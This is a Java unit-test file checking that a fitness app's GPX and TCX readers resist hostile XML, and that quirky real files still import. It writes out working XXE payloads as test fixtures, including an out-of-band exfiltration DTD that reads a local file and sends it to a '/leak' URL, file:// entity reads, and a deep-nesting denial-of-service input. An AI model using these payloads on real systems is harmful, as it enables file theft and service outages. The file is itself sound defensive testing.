package org.plimsoll.formats.activity;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.plimsoll.formats.xml.SafeXml;

/**
 * Attacks on the XML readers (docs/security.md): external entities, DTDs and XIncludes must never
 * be fetched, deep nesting and endless tokens are refused as they stream past, and the real files
 * established readers accept still import.
 */
class HostileXmlTest {
    static final Instant START = Instant.parse("2026-03-02T07:00:00Z");
    private HttpServer listener;
    private final AtomicInteger requests = new AtomicInteger();
    private String base;
    @TempDir
    Path dir;

    @BeforeEach
    void listen() throws IOException {
        // A listener on loopback that counts every fetch and would hand out a DTD stealing a local file.
        listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        listener.createContext("/", exchange -> {
            requests.incrementAndGet();
            byte[] dtd = ("<!ENTITY % file SYSTEM \"file://" + secret() + "\">"
                    + "<!ENTITY % all \"<!ENTITY send SYSTEM '" + base + "/leak?%file;'>\">%all;")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        listener.start();
        base = "http://127.0.0.1:" + listener.getAddress().getPort();
    }

    @AfterEach
    void stop() {
        listener.stop(0);
    }

    private Path secretFile;

    private String secret() {
        return secretFile.toAbsolutePath().toString();
    }

    private String track(String doctype, String extra) {
        String gpx = ActivityFiles.gpx(START, 600, 140);
        return gpx.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype + "\n").replace("<name>Ride</name>",
                "<name>Ride" + extra + "</name>");
    }

    @Test
    void noExternalDtdParameterEntityOrGeneralEntityIsEverFetched() throws IOException {
        secretFile = Files.writeString(dir.resolve("hostname"), "secret-host-name");
        List<String> attacks = List.of(
                track("<!DOCTYPE gpx SYSTEM \"" + base + "/evil.dtd\">", ""),
                track("<!DOCTYPE gpx [<!ENTITY % remote SYSTEM \"" + base + "/p.dtd\"> %remote; ]>", "&send;"),
                track("<!DOCTYPE gpx [<!ENTITY x SYSTEM \"file://" + secret() + "\">]>", "&x;"),
                track("<!DOCTYPE gpx [<!ENTITY x SYSTEM \"" + base + "/x\">]>", "&x;"),
                track("", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + base + "/inc\"/>"));
        for (String attack : attacks) {
            for (String file : List.of(attack, tcxWith(attack))) {
                try {
                    List<ImportedActivity> read = file.contains("<gpx") ? GpxActivities.read(bytes(file))
                            : TcxActivities.read(bytes(file));
                    assertThat(read.toString()).doesNotContain("secret-host-name");
                } catch (ActivityFileException refused) {
                    assertThat(refused.getMessage()).doesNotContain("secret-host-name").startsWith("the ");
                }
            }
        }
        // The whole import too, as the API and the command line run it.
        Path upload = Files.writeString(dir.resolve("evil.gpx"), attacks.get(1));
        new ActivityImport(java.time.ZoneOffset.UTC, START.plusSeconds(86_400 * 3), ActivityImport.Limits.DEFAULT)
                .run(List.of(upload), (hash, sessions) -> sessions, ActivityImport.Progress.NONE);
        assertThat(requests).as("requests the readers sent to the listener").hasValue(0);
    }

    private static String tcxWith(String gpxAttack) {
        String doctype = gpxAttack.lines().filter(l -> l.startsWith("<!DOCTYPE")).findFirst().orElse("")
                .replace("DOCTYPE gpx", "DOCTYPE TrainingCenterDatabase");
        String tcx = ActivityFiles.tcx(START, 600, 3, 140);
        String entity = gpxAttack.contains("&send;") ? "&send;" : gpxAttack.contains("&x;") ? "&x;" : "";
        return tcx.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype + "\n")
                .replace("<Id>", "<Notes>" + entity + "</Notes><Id>");
    }

    @Test
    void deepNestingIsRefusedAsItStreamsPast() {
        // 1.4 MB of nested extensions took a tree-building reader 419 s of CPU.
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < 50_000; i++) {
            deep.append("<extensions>");
        }
        String gpx = ActivityFiles.gpx(START, 60, 140).replace("<name>Ride</name>", deep.toString());
        assertThatThrownBy(() -> GpxActivities.read(bytes(gpx)))
                .hasMessageStartingWith("the GPX file nests elements more than " + SafeXml.MAX_DEPTH + " deep (line");
        String tcx = ActivityFiles.tcx(START, 60, 3, 140).replace("<Id>", deep + "<Id>");
        assertThatThrownBy(() -> TcxActivities.read(bytes(tcx)))
                .hasMessageStartingWith("the TCX file nests elements more than " + SafeXml.MAX_DEPTH + " deep");
    }

    @Test
    void aTokenLongerThanAnyActivityFileHoldsIsRefused() {
        String huge = "x".repeat(SafeXml.MAX_TOKEN_BYTES + 1);
        String gpx = ActivityFiles.gpx(START, 60, 140).replace("<name>Ride</name>", "<name>" + huge + "</name>");
        assertThatThrownBy(() -> GpxActivities.read(bytes(gpx)))
                .hasMessage("the GPX file has a run of more than 1 MB without markup, which no activity file has");
        String attribute = ActivityFiles.tcx(START, 60, 3, 140).replace("Sport=\"Running\"", "Sport=\"" + huge + "\"");
        assertThatThrownBy(() -> TcxActivities.read(bytes(attribute)))
                .hasMessage("the TCX file has a run of more than 1 MB without markup, which no activity file has");
    }

    @Test
    void stravaTcxWithSpacesBeforeTheDeclarationImports() throws ActivityFileException {
        String strava = "          \n" + ActivityFiles.tcx(START, 1800, 3, 150);
        assertThat(TcxActivities.read(bytes(strava))).singleElement()
                .satisfies(a -> assertThat(a.elapsedSeconds()).isEqualTo(1800));
        assertThat(GpxActivities.read(bytes("\r\n\t " + ActivityFiles.gpx(START, 600, 140)))).hasSize(1);
    }

    @Test
    void undeclaredNamespacePrefixesAreRead() throws ActivityFileException {
        // Some devices write gpxdata: and gpxx: without declaring them.
        String gpx = """
                <?xml version="1.0" encoding="UTF-8"?>
                <gpx version="1.1" creator="a device"><trk><type>running</type><trkseg>
                <trkpt lat="0" lon="0"><time>2026-03-02T07:00:00Z</time><extensions><gpxdata:hr>150</gpxdata:hr></extensions></trkpt>
                <trkpt lat="0" lon="0.01"><time>2026-03-02T07:10:00Z</time><extensions><gpxx:TrackPointExtension><gpxdata:hr>160</gpxdata:hr></gpxx:TrackPointExtension></extensions></trkpt>
                </trkseg></trk></gpx>
                """;
        assertThat(GpxActivities.read(bytes(gpx))).singleElement().satisfies(a -> {
            assertThat(a.averageHeartRate()).hasValue(155);
            assertThat(a.elapsedSeconds()).isEqualTo(600);
            assertThat(a.distanceMetres().getAsDouble()).isBetween(1100.0, 1125.0);
        });
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void aFileInTheEncodingItsDeclarationNamesIsReadAndBadBytesDoNotStopIt() throws ActivityFileException {
        String gpx = ActivityFiles.gpx(START, 600, 140).replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"")
                .replace("<type>cycling</type>", "<type>cycling</type><name>Tour de l'\u00eele</name>");
        assertThat(GpxActivities.read(gpx.getBytes(StandardCharsets.ISO_8859_1))).hasSize(1);
        byte[] broken = ActivityFiles.gpx(START, 600, 140).replace("<name>Ride</name>", "<name>Ride \u00e9</name>")
                .getBytes(StandardCharsets.ISO_8859_1); // declared UTF-8, but a lone Latin-1 byte inside
        assertThat(GpxActivities.read(broken)).hasSize(1);
    }
}
